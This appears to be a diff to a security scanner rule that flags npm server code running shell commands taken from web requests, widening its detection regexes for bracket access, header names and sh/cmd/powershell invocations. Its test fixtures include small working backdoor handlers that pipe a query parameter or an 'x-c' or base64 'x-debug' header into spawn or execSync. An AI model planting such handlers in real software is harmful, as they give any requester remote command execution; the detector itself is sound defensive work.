@@ -4,10 +4,26 @@ import type { SourceFile } from "../model.ts";
 import { scriptsWith } from "./_npm.ts";
 import { sight } from "./_sight.ts";
 
-const REQUESTS = [".query", ".body", ".params", ".headers", ".cookies", ".url"] as const;
+const REQUESTS = [
+  "'query'",
+  '"query"',
+  "'body'",
+  '"body"',
+  ".query",
+  ".body",
+  ".params",
+  ".headers",
+  ".cookies",
+  ".url",
+] as const;
 /** What somebody who asks a web server has said, decoded or not. */
 const SAID =
-  /^(?:\s{0,4}(?:await\s{1,4})?(?:String|decodeURIComponent|unescape|atob|Buffer\.from|JSON\.parse)\s{0,2}\(){0,3}\s{0,4}(?:req|request|ctx|context|q|r|event|_req)(?:\.(?:req|request))?(?:\.(?:query|body|params|headers|cookies|get\(|header\(|queryStringParameters)|\.url\b)/;
+  /^(?:\s{0,4}(?:await\s{1,4})?(?:String|decodeURIComponent|unescape|atob|Buffer\.from|JSON\.parse)\s{0,2}\(){0,3}\s{0,4}(?:req|request|ctx|context|q|r|event|_req)(?:\.(?:req|request))?(?:\.(?:query|body|params|headers|cookies|get\(|header\(|queryStringParameters)|\[["'](?:query|body|params|headers|cookies)["']\]|\.url\b)/;
+/** A header by its name, of whatever the function calls its first parameter. */
+const HEADER = /^\s{0,4}[A-Za-z_$][\w$]{0,20}\.headers\[\s{0,2}["'`]/;
+/** A shell that is given its program: `"sh", ["-c", …`. */
+const SHELL =
+  /^\s{0,4}["'`](?:[\w/\\:]{0,40}[/\\])?(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)["'`]\s{0,4},\s{0,4}\[\s{0,4}["'`](?:-\w{0,3}c|\/c|-command)["'`]\s{0,4},/i;
 /** A program handed to an interpreter: `new Function("req", code)`. */
 const LAST_SAID =
   /,\s{0,4}(?:req|request|ctx|q|r|_req)\.(?:query|body|params|headers|cookies)[\w.[\]'"`-]{0,60}\s{0,4}$/;
@@ -79,6 +95,20 @@ Servers that start one program of their own with arguments from the request are 
         ecosystem: "npm",
         files: {
           "a.js":
+            "const { spawn } = require('child_process');\nmodule.exports = (req, res) => spawn('sh', ['-c', req['query']['c']]).stdout.pipe(res);\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "b.js":
+            "const { execSync } = require('child_process');\nmodule.exports = (a, b, n) => {\n  const c = a.headers['x-c'];\n  if (c) b.end(execSync(c));\n  else n();\n};\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
             "const cp = require('child_process');\nexports.m = function (req, res, next) {\n  const c = req.headers['x-debug'];\n  if (c) return res.end(cp.execSync(Buffer.from(c, 'base64').toString()));\n  next();\n};\n",
         },
       },
@@ -106,17 +136,18 @@ function namesFromRequests({ text }: SourceFile): ReadonlySet<string> {
   let seen = 0;
   for (const [, name = "", value = ""] of text.matchAll(ASSIGNED)) {
     if (++seen > MOST_ASSIGNED) break;
-    if (SAID.test(value)) names.add(name);
+    if (SAID.test(value) || HEADER.test(value)) names.add(name);
   }
   return names;
 }
 
 const WRAPPED =
-  /^(?:\s{0,4}(?:String|decodeURIComponent|unescape|atob|Buffer\.from)\s{0,2}\(){0,3}\s{0,4}([A-Za-z_$][\w$]{0,40})\s{0,4}(?:[,)]|\.toString\(|$)/;
+  /^(?:\s{0,4}(?:String|decodeURIComponent|unescape|atob|Buffer\.from)\s{0,2}\(){0,3}\s{0,4}([A-Za-z_$][\w$]{0,40})\s{0,4}(?:[,)\]]|\.toString\(|$)/;
 
 function isSaid({ words, act, what }: Deed, names: ReadonlySet<string>): boolean {
-  if (SAID.test(words) || (act === "run-code" && LAST_SAID.test(words))) return true;
-  const first = WRAPPED.exec(words)?.[1];
+  const program = words.replace(SHELL, "");
+  if (SAID.test(program) || HEADER.test(program) || (act === "run-code" && LAST_SAID.test(words))) return true;
+  const first = WRAPPED.exec(program)?.[1];
   if (first !== undefined && names.has(first)) return true;
   const last = what === "Function" ? /,\s{0,4}([A-Za-z_$][\w$]{0,40})\s{0,4}$/.exec(words)?.[1] : undefined;
   return last !== undefined && names.has(last);
